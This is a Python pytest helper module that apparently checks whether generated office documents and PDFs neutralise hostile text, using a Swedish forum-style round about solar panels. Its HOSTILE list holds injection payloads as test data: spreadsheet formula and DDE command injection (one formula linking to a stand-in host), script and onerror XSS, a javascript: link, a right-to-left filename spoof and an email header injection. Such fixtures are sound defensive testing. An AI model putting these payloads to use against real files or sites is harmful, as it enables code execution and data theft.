"""A hostile round, and what office programs make of files, for several tests."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

#: Words that a careless writer of files would let act.
HOSTILE = (
    '=HYPERLINK("http://ond.example/?"&A1;"klicka")',
    "=1+2",
    "+46 70 000 00 00",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=2+3",
    "<script>alert('hej')</script> och <img src=x onerror=alert(1)>",
    "Vi har solceller \u202egpj.exe\u202c på taket och 🌞🚲",
    "{=cmd|' /C calc'!A0} | [länk](javascript:alert(1)) `kod` *stjärna*",
    "_x0041_ och &lt;b&gt; och ]]> och %0d%0aBcc: alla@ond.example",
)


def hostile_text() -> str:
    """A round in which every member says something that would act if it could."""
    said = "\n\n".join(f"Hjälp: {words} – hur gör ni andra med solceller?" for words in HOSTILE)
    long = "Vi har solceller på skolan och " + "mycket " * 1500 + "mer."
    return (
        "Runda 3 maj 2022\n\n"
        f"Malin, Malmö\n\n{said}\n\n"
        f"Sara, Örebro\n\n{long}\n\nTips: {HOSTILE[0]} delar gärna vår mall för solceller.\n\n"
        "Agneta, Lund\n\nVi har solceller på badhuset. Hör av dig så berättar vi om solceller!\n"
    )


def converted(content: bytes, name: str, folder: Path) -> str:
    """Text of the PDF that LibreOffice makes of a file; skips where it is not installed."""
    office, reader = shutil.which("soffice"), shutil.which("pdftotext")
    if office is None or reader is None:
        pytest.skip("LibreOffice (soffice) and poppler (pdftotext) are not on this machine")
    path = folder / name
    path.write_bytes(content)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [office, profile, "--headless", "--convert-to", "pdf", "--outdir", str(folder), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    pdf = path.with_suffix(".pdf")
    made = subprocess.run([reader, "-layout", str(pdf), "-"], check=True, capture_output=True, timeout=60)
    return made.stdout.decode("utf-8")


def parts(content: bytes) -> dict[str, str]:
    """The XML parts of an office file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode("utf-8", "replace")
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }
